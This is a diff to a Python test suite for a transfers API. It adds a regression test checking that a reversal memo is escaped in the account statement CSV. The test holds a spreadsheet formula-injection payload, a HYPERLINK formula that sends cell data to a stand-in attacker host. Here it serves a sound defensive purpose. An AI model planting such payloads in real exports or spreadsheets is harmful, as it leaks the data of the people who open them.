@@ -3,6 +3,7 @@ a failed row in an import report) naming the field, never a 5xx, and nothing cha
 
 from __future__ import annotations
 
+import csv
 import io
 from typing import Any
 
@@ -178,3 +179,24 @@ def test_an_import_cell_with_a_nul_is_refused_whole(any_world: World) -> None:
     assert "line 3: a control character (U+0000)" in response.json()["error"]["message"]
     assert accounts_numbered(any_world, "N-1") == []
 
+
+def test_a_memo_in_the_statement_csv_is_not_a_spreadsheet_formula(any_world: World) -> None:
+    # The reversal memo is the operator's text; in the CSV it was written as it was, so Excel
+    # ran "=HYPERLINK(…)" as a formula (the audit export already escaped its cells).
+    memo = '=HYPERLINK("http://evil.example/?"&A1,"refund")'
+    reversed_ = any_world.client.post(
+        f"/api/v1/transfers/{any_world.alpha.transfer_id}/reversal",
+        json={"memo": memo},
+        headers={**any_world.alpha.auth("admin"), **key("reverse-1")},
+    )
+    assert reversed_.status_code == 201, reversed_.text
+
+    answer = any_world.client.get(
+        f"/accounts/{any_world.alpha.account_id}/statement.csv?from=2026-11-01&to=2026-11-30",
+        headers=any_world.alpha.auth("readonly"),
+    )
+
+    assert answer.status_code == 200, answer.text
+    memos = [row["memo"] for row in csv.DictReader(io.StringIO(answer.text.lstrip("\ufeff")))]
+    assert any(m.endswith(memo) for m in memos), memos
+    assert not any(m.startswith(("=", "+", "-", "@")) for m in memos)
